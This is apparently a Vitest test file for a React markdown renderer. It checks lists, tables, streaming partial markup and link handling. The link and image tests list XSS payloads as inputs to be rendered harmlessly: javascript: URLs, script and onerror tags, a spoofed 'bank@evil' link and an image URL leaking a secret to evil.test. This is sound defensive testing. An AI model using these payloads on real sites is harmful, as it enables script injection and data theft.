import { cleanup, render } from '@testing-library/react'
import { afterEach, expect, test } from 'vitest'
import { closed, parse, type Parsed } from '../src/markdown.ts'
import { Prose } from '../src/prose.tsx'

afterEach(cleanup)

const html = (text: string, caret = false): string => {
  const { container } = render(<Prose text={text} caret={caret} />)
  return (container.firstElementChild as HTMLElement).innerHTML
}

test('paragraphs, lists, headings, bold and code are drawn', () => {
  expect(html('One\ntwo\n\n## Head\n- a\n- **b**\n  1. x\n\n3. `c`\n4. d')).toBe(
    '<p>One\ntwo</p><p class="prose-heading">Head</p>' +
      '<ul><li>a</li><li><strong>b</strong><ol start="1"><li>x</li></ol></li></ul>' +
      '<ol start="3"><li><code>c</code></li><li>d</li></ol>',
  )
})

test('tables, quotations, code blocks, tasks and rules are drawn', () => {
  expect(html('| a | b |\n|---|--:|\n| **1** | 2 |')).toBe(
    '<div class="prose-table" tabindex="0"><table><thead><tr><th scope="col">a</th>' +
      '<th scope="col" data-align="right">b</th></tr></thead>' +
      '<tbody><tr><td><strong>1</strong></td><td data-align="right">2</td></tr></tbody></table></div>',
  )
  expect(html('> so\n> it is\n\n---\n\n```sql\nselect <1>;\n```\n\n- [x] done\n- [ ] not')).toBe(
    '<blockquote><p>so\nit is</p></blockquote><hr><pre><code>select &lt;1&gt;;</code></pre>' +
      '<ul><li>☑ done</li><li>☐ not</li></ul>',
  )
})

test('bold stands beside Japanese punctuation', () => {
  expect(html('これは**「重要」**です。**結論：**可決')).toBe(
    '<p>これは<strong>「重要」</strong>です。<strong>結論：</strong>可決</p>',
  )
})

test('a line under a text makes no heading of it, and an indented one no code', () => {
  expect(html('Costs\n---\n    four spaces')).toBe('<p>Costs</p><hr><p>    four spaces</p>')
})

test('only http and https are links, and they say where they lead', () => {
  expect(html('[the report](https://example.org/a?b=1)')).toBe(
    '<p><a href="https://example.org/a?b=1" target="_blank" rel="noopener noreferrer nofollow" ' +
      'referrerpolicy="no-referrer">the report</a><span class="prose-host"> (example.org)</span></p>',
  )
  expect(html('see https://example.org/x')).toContain('>https://example.org/x</a></p>')
  for (const text of [
    '[click](javascript:alert(1))',
    '[click](JaVaScRiPt:alert(1))',
    '[click](data:text/html,x)',
    '[click](//example.org/)',
    '[click](/v1/deliberations)',
    '[bank](https://bank.test@evil.test/)',
    'mail a@b.test',
  ]) {
    const { container } = render(<Prose text={text} />)
    expect(container.querySelectorAll('a'), text).toHaveLength(0)
    expect(container.textContent, text).toBe(text)
    cleanup()
  }
})

test('HTML and images stay the characters they are', () => {
  const hostile = [
    '<img src=x onerror=alert(1)>',
    '<script>alert(1)</script>',
    '![a](https://evil.test/leak?q=secret)',
    '[![a](https://evil.test/b.png)](javascript:alert(1))',
    '<details open ontoggle=alert(1)>',
  ]
  const { container } = render(<Prose text={hostile.join('\n\n')} />)
  expect(
    container.querySelectorAll('img, script, a, details, [onclick], [src], [href]'),
  ).toHaveLength(0)
  for (const line of hostile) expect(container.textContent).toContain(line)
})

test('markup on its way is drawn as what it becomes', () => {
  expect(html('so **bold', true)).toBe('<p>so <strong>bold</strong></p>')
  expect(html('so **bold*', true)).toBe('<p>so <strong>bold</strong></p>')
  expect(html('so **', true)).toBe('<p>so </p>')
  expect(html('run `ls -', true)).toBe('<p>run <code>ls -</code></p>')
  expect(html('see [the report](https://exam', true)).toBe('<p>see the report</p>')
  expect(html('a\n- b\n-', true)).toBe('<p>a</p><ul><li>b</li></ul>')
  expect(html('```js\nlet a = `b', true)).toBe('<pre><code>let a = `b</code></pre>')
  // What has ended is drawn as it is.
  expect(html('so **bold')).toBe('<p>so **bold</p>')
})

const TEXTS = [
  'First.\n\n- one\n- two\n\nSecond line\nof it.\n\n# Head\nTail\n***\nx',
  'A | B\n--|--\n1 | **2**\n\n> a\nb\n\n1. x\n\n   y\n2. z\n\n```\ncode\n\n- not a list\n```\nend **「強調」**。',
  '結論\n---\n・項目一\n・項目二\r\n\r\n[a](https://b.test) <b>c</b>\n\n\n\n\t tab\n* * *\n- [ ] t',
]

test('appending never changes an earlier block, and reads as the whole does', () => {
  for (const text of TEXTS) {
    let before: Parsed | undefined
    for (let length = 0; length <= text.length; length++) {
      const now = parse(text.slice(0, length), before)
      for (const [index, block] of (before?.blocks ?? []).slice(0, -1).entries())
        expect(now.blocks[index]).toBe(block)
      expect(now.blocks.map((block) => block.raw.trim())).toEqual(
        parse(text.slice(0, length)).blocks.map((block) => block.raw.trim()),
      )
      before = now
    }
  }
})

test('no character of the text is lost', () => {
  for (const text of TEXTS) {
    const drawn = parse(text).blocks.map((block) => block.raw)
    expect(drawn.join('').replace(/\s/g, '')).toBe(text.replace(/\s/g, ''))
  }
})

test('a text that was taken back is read anew', () => {
  const long = parse('One.\n\nTwo.\n\nThree')
  expect(parse('One.\n\nTw', long).blocks.map((block) => block.raw)).toEqual(
    ['One.\n\n', 'Tw'].map((raw) => raw.trim()),
  )
})

test('what is nested beyond reason, or never ends, is drawn as its characters', () => {
  for (const text of ['>'.repeat(15_000), '- '.repeat(400) + 'x', '['.repeat(100_000)]) {
    const { container } = render(<Prose text={text} />)
    expect(container.textContent?.length).toBeGreaterThan(0)
    cleanup()
  }
  expect(closed('**'.repeat(1000))).toBe('**'.repeat(1000))
})
